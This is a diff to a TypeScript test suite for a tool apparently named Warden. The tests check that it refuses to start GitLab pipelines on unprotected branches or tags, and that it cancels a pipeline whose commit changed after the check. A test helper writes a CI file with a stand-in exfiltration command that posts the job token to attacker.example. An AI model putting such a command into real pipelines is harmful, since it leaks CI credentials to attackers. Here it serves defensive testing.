@@ -7,6 +7,11 @@ import { generateOrganisation, startGitLabSim, type GitLabSim, type SimProject }
 import { commitSha } from "../../sim/gitlab/repository.ts";
 import { validated } from "../support/report.ts";
 
+/** A branch a developer pushes with a CI file of their own: what a pipeline on it would run. */
+function pushBranch(project: SimProject, branch: string): string {
+  return sim.repositories.commit(project, { ".gitlab-ci.yml": "steal:\n  script: curl -d @$CI_JOB_TOKEN https://attacker.example\n" }, branch);
+}
+
 const POLICY = parsePolicy(
   `version: 1
 pipelines:
@@ -23,6 +28,8 @@ let platform: SimProject;
 beforeEach(async () => {
   sim = await startGitLabSim({ dataset: generateOrganisation({ projects: 200, seed: 3 }).dataset });
   platform = sim.dataset.projects.find((p) => p.path_with_namespace.startsWith("acme/platform/"))!;
+  // The release branches made so far are protected; one a developer pushes next is not.
+  platform.protected_branches = ["main", "release/1.*"];
 });
 afterEach(() => sim.close());
 
@@ -104,6 +111,7 @@ describe("pipeline job", () => {
       ref: "release/1.0",
       refKind: "branch",
       commit: commitSha(platform, "release/1.0"),
+      refProtected: true,
       variables: ["DEPLOY_ENV"],
       status: "planned",
     });
@@ -116,6 +124,7 @@ describe("pipeline job", () => {
 
   it("takes a tag when no branch has the ref's name, as GitLab does", async () => {
     const tags = parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "acme/**", refs: ["stable/*"] }\n`, "t.yaml");
+    platform.protected_tags = ["stable/*"];
     const report = await run({ apply: false, ref: "stable/2024.06", policy: tags });
     expect(report.actions[0]).toMatchObject({ status: "planned", refKind: "tag", commit: commitSha(platform, "stable/2024.06") });
     expect(sim.counters.byRoute["GET /projects/:id/repository/tags/:tag"]).toBe(1);
@@ -157,5 +166,114 @@ describe("pipeline job", () => {
     const report = await run({});
     expect(report.actions[0]!.status).toBe("created");
     expect(sim.pipelines).toHaveLength(1);
+  });
+});
+
+describe("pipeline job: only a protected ref runs with Warden's identity", () => {
+  const POST = "POST /projects/:id/pipeline";
+
+  it("refuses an unprotected branch the rule's glob matches (a developer's release/x), naming the cause and the fix, and sends no POST", async () => {
+    pushBranch(platform, "release/x");
+    for (const apply of [true, false]) {
+      const report = await run({ apply, ref: "release/x" });
+      expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "branch", refProtected: false });
+      expect(report.actions[0]!.reason).toBe(
+        `branch release/x of project ${platform.path_with_namespace} is not protected: whoever can push to it chooses what a pipeline Warden starts runs, with Warden's identity. ` +
+          "Protect the branch in GitLab (Settings > Repository > Protected branches), or set unprotected: true on its rule, allow[0] acme/platform/**, to allow unprotected refs",
+      );
+      expect(report.summary.allowed).toBe(false);
+      expect(exitCode(report)).toBe(1);
+    }
+    expect(sim.counters.byRoute[POST]).toBeUndefined();
+    expect(sim.pipelines).toEqual([]);
+  });
+
+  it("starts on a branch a wildcard protection rule covers, and says it is protected", async () => {
+    platform.protected_branches = ["main", "release/*"];
+    const head = pushBranch(platform, "release/x");
+    const report = await run({ ref: "release/x" });
+    expect(report.actions[0]).toMatchObject({ status: "created", refKind: "branch", refProtected: true, commit: head });
+    expect(sim.pipelines).toEqual([expect.objectContaining({ ref: "release/x", sha: head })]);
+  });
+
+  it("starts on an unprotected branch only where the rule says unprotected: true, and reports it unprotected", async () => {
+    pushBranch(platform, "release/x");
+    const policy = parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "acme/platform/**", refs: ["main"] }\n    - { project: "acme/platform/**", refs: ["release/*"], unprotected: true }\n`, "t.yaml");
+    const report = await run({ ref: "release/x", policy });
+    expect(report.summary).toMatchObject({ allowed: true, rule: "allow[1] acme/platform/**" });
+    expect(report.actions[0]).toMatchObject({ status: "created", refProtected: false });
+    expect(sim.pipelines).toHaveLength(1);
+  });
+
+  describe.each([true, false])("a tag (tags carry protected: %s)", (tagProtectedField) => {
+    const TAGS = parsePolicy(`version: 1\npipelines:\n  allow:\n    - { project: "acme/**", refs: ["v*", "stable/*"] }\n`, "t.yaml");
+    beforeEach(async () => {
+      await sim.close();
+      sim = await startGitLabSim({ dataset: generateOrganisation({ projects: 200, seed: 3 }).dataset, tagProtectedField });
+      platform = sim.dataset.projects.find((p) => p.path_with_namespace.startsWith("acme/platform/"))!;
+      platform.protected_tags = ["v1.0.0", "stable/*"];
+    });
+
+    it("protected by a rule of exactly its name: started", async () => {
+      const report = await run({ ref: "v1.0.0", policy: TAGS });
+      expect(report.actions[0]).toMatchObject({ status: "created", refKind: "tag", refProtected: true });
+      expect(sim.pipelines).toHaveLength(1);
+    });
+
+    it("not protected: refused naming the fix, no POST", async () => {
+      const report = await run({ ref: "v1.1.0", policy: TAGS });
+      expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "tag" });
+      expect(report.actions[0]!.refProtected).toBe(tagProtectedField ? false : undefined);
+      if (tagProtectedField) expect(report.actions[0]!.reason).toMatch(/^tag v1\.1\.0 of project .* is not protected: .* Protect the tag in GitLab \(Settings > Repository > Protected tags\), or set unprotected: true on its rule, allow\[0\] acme\/\*\*, to allow unprotected refs$/);
+      else expect(report.actions[0]!.reason).toMatch(/^tag v1\.1\.0 of project .*: this GitLab does not say whether a tag is protected/);
+      expect(sim.counters.byRoute[POST]).toBeUndefined();
+    });
+
+    it(tagProtectedField ? "protected by a wildcard rule alone: started (GitLab says so on the tag)" : "protected by a wildcard rule alone: refused, as GitLab does not say so (fail closed), naming the fix", async () => {
+      const report = await run({ ref: "stable/2024.06", policy: TAGS });
+      if (tagProtectedField) {
+        expect(report.actions[0]).toMatchObject({ status: "created", refProtected: true });
+        expect(sim.pipelines).toHaveLength(1);
+      } else {
+        expect(report.actions[0]).toMatchObject({ status: "refused", refKind: "tag" });
+        expect(report.actions[0]!.refProtected).toBeUndefined();
+        expect(report.actions[0]!.reason).toMatch(/^tag stable\/2024\.06 of project .*: this GitLab does not say whether a tag is protected, and no protected-tag rule has exactly its name .* protect the tag by its exact name, or set unprotected: true on its rule, allow\[0\] acme\/\*\*, to allow unprotected refs$/);
+        expect(sim.counters.byRoute[POST]).toBeUndefined();
+      }
+    });
+  });
+
+  it("cancels a pipeline that runs another commit than the one checked (the branch moved in between), and reports it", async () => {
+    platform.protected_branches = ["main", "release/*"];
+    const checked = pushBranch(platform, "release/x");
+    let moved = "";
+    // The race: a push lands after the checks, as the POST reaches GitLab.
+    sim.beforeAnswer(({ route }) => {
+      if (route === POST && moved === "") moved = pushBranch(platform, "release/x");
+    });
+    const report = await run({ ref: "release/x" });
+    const [pipeline] = sim.pipelines;
+    expect(pipeline).toMatchObject({ sha: moved, status: "canceled" });
+    expect(report.actions[0]).toMatchObject({ status: "failed", commit: checked, pipelineCommit: moved, pipelineId: pipeline!.id, pipelineStatus: "canceled" });
+    expect(report.actions[0]!.error).toBe(
+      `the pipeline runs commit ${moved.slice(0, 8)}, not ${checked.slice(0, 8)} that was checked (release/x moved in between): cancelled it; check the branch and run the command again`,
+    );
+    expect(sim.counters.byRoute["POST /projects/:id/pipelines/:pipeline_id/cancel"]).toBe(1);
+    expect(exitCode(report)).toBe(1);
+  });
+
+  it("says so when the mismatched pipeline could not be cancelled, and never retries the cancel", async () => {
+    platform.protected_branches = ["main", "release/*"];
+    pushBranch(platform, "release/x");
+    let moved = "";
+    sim.beforeAnswer(({ route }) => {
+      if (route === POST && moved === "") moved = pushBranch(platform, "release/x");
+    });
+    sim.addFaults({ kind: "status", status: 503, route: "POST /projects/:id/pipelines/:pipeline_id/cancel", times: 1 });
+    const report = await run({ ref: "release/x" });
+    expect(report.actions[0]).toMatchObject({ status: "failed", pipelineCommit: moved });
+    expect(report.actions[0]!.error).toMatch(/^the pipeline runs commit [0-9a-f]{8}, not [0-9a-f]{8} that was checked \(release\/x moved in between\), and cancelling it failed: .*503.*: cancel it at http/);
+    expect(sim.pipelines[0]!.status).toBe("created");
+    expect(sim.counters.byRoute["POST /projects/:id/pipelines/:pipeline_id/cancel"]).toBe(1);
   });
 });
